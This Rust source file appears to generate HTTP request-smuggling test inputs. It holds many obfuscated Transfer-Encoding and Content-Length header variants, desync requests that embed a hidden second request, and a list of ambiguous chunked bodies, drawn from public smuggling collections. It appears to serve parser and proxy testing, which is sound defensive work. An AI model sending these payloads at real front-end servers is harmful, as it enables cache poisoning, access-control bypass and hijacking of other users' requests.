//! What proxy and endpoint might read differently, as public collections of attacks send it.

/// From smuggler, HTTP Request Smuggler, and the papers on TE.0 and on ends of chunks:
/// statements about the length that one side could overlook, and a request that only the other one then sees.
pub fn list_hidden_requests() -> Vec<String> {
    let hidden = "GET /hidden HTTP/1.1\r\nHost: a.test\r\n\r\n";
    let in_chunk = format!("{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len());
    let after_chunks = format!("0\r\n\r\n{hidden}");
    let encodings = [
        "Transfer-Encoding: chunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding\t: chunked",
        "Transfer-Encoding\n: chunked",
        "Transfer-Encoding:chunked",
        "Transfer-Encoding:\tchunked",
        "Transfer-Encoding: \tchunked",
        "Transfer-Encoding:\x0bchunked",
        "Transfer-Encoding:\x0cchunked",
        "Transfer-Encoding: chunked\0",
        "Transfer-Encoding: chunked\x0b",
        "Transfer-Encoding: chunked\t",
        "Transfer-Encoding: chunked\rX: y",
        "Transfer-Encoding: chunked\nX: y",
        "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding:\n\tchunked",
        " Transfer-Encoding: chunked",
        "\tTransfer-Encoding: chunked",
        "X: y\rTransfer-Encoding: chunked",
        "X: y\nTransfer-Encoding: chunked",
        "X: y\r\n\tTransfer-Encoding: chunked",
        "\0Transfer-Encoding: chunked",
        "Transfer\0-Encoding: chunked",
        "Transfer_Encoding: chunked",
        "Transfer Encoding: chunked",
        "Transfer-Encoding: Chunked",
        "TRANSFER-ENCODING: CHUNKED",
        "Transfer-Encoding: chun\u{212a}ed",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunk",
        "Transfer-Encoding: \"chunked\"",
        "Transfer-Encoding: 'chunked'",
        "Transfer-Encoding: chunked;x=y",
        "Transfer-Encoding: chunked,",
        "Transfer-Encoding: ,chunked",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: chunked, chunked",
        "Transfer-Encoding: identity",
        "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        "Transfer-Encoding: chunked\r\nTransfer-encoding: chunked",
        "Transfer-Encoding:",
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "Connection: Content-Length\r\nTransfer-Encoding: chunked",
    ];
    let lengths = |octets: usize| {
        [
            format!("Content-Length: {octets}\r\nContent-Length: 0"),
            format!("Content-Length: 0\r\nContent-Length: {octets}"),
            format!("Content-Length: {octets}, 0"),
            format!("Content-Length: +{octets}"),
            format!("Content-Length: -{octets}"),
            format!("Content-Length: 0{octets}"),
            format!("Content-Length: {octets}.0"),
            format!("Content-Length: {octets:#x}"),
            format!("Content-Length: {octets}e0"),
            format!("Content-Length: {octets} 0"),
            format!("Content-Length: {octets}\0"),
            format!("Content-Length:\x0b{octets}"),
            format!("Content-Length : {octets}"),
            format!("Content-Length\n: {octets}"),
            format!("Content-Length:\r\n {octets}"),
            format!("X: y\rContent-Length: {octets}"),
            format!("X: y\nContent-Length: {octets}"),
            format!("Content_Length: {octets}\r\nContent-Length: 0"),
            format!("Content-Length: {octets}\r\nConnection: Content-Length"),
            format!("Content-Length: {octets}\r\nExpect: 100-continue"),
            format!("Content-Length: {octets}\r\nUpgrade: x"),
        ]
    };
    let mut cases = Vec::new();
    for method in ["POST", "GET", "OPTIONS"] {
        let mut push =
            |rest: String| cases.push(format!("{method} / HTTP/1.1\r\nHost: a.test\r\n{rest}"));
        for encoding in encodings {
            for body in [&in_chunk, &after_chunks] {
                for length in [4, body.len()] {
                    push(format!("{encoding}\r\nContent-Length: {length}\r\n\r\n{body}"));
                    push(format!("Content-Length: {length}\r\n{encoding}\r\n\r\n{body}"));
                }
            }
            push(format!("{encoding}\r\n\r\n{in_chunk}"));
        }
        for length in lengths(hidden.len()) {
            push(format!("{length}\r\n\r\n{hidden}"));
        }
    }
    cases
}

/// Bodies that some read otherwise.
pub const AMBIGUOUS_CHUNKS: [&str; 32] = [
    // Ends of lines in extensions and sizes.
    "2;\nab\r\n0\r\n\r\n",
    "2;\rab\r\n0\r\n\r\n",
    "2;a\r\rab\r\n0\r\n\r\n",
    "2\nab\n0\n\n",
    "2\rab\r0\r\r",
    "2\n\rab\r\n0\r\n\r\n",
    "2\r\r\nab\r\n0\r\n\r\n",
    // Ends of data.
    "2\r\nab\n0\r\n\r\n",
    "2\r\nab\r0\r\n\r\n",
    "2\r\nab0\r\n\r\n",
    "2\r\nabXX0\r\n\r\n",
    "2\r\nabc\r\n0\r\n\r\n",
    // Sizes.
    "+2\r\nab\r\n0\r\n\r\n",
    "-2\r\nab\r\n0\r\n\r\n",
    "0x2\r\nab\r\n0\r\n\r\n",
    "2_0\r\nab\r\n0\r\n\r\n",
    " 2\r\nab\r\n0\r\n\r\n",
    "\r\n2\r\nab\r\n0\r\n\r\n",
    "2 2\r\nab\r\n0\r\n\r\n",
    "2\0\r\nab\r\n0\r\n\r\n",
    "10000000000000002\r\nab\r\n0\r\n\r\n",
    "\u{ff12}\r\nab\r\n0\r\n\r\n",
    ";x\r\nab\r\n0\r\n\r\n",
    "\r\nab\r\n0\r\n\r\n",
    // The end, and trailers.
    "0\r\n\n",
    "0\n\r\n",
    "0\r\n\rGET /hidden HTTP/1.1\r\nHost: a.test\r\n\r\n",
    "0\r\nX: y\nGET /hidden HTTP/1.1\r\nHost: a.test\r\n\r\n",
    "0\r\nX: y\r\n folded\r\n\r\n",
    "0\r\nX : y\r\n\r\n",
    "0\r\nX\r\n\r\n",
    "0\r\nX: y\0\r\n\r\n",
];

pub fn with_chunks(chunks: &str) -> String {
    format!("POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}")
}
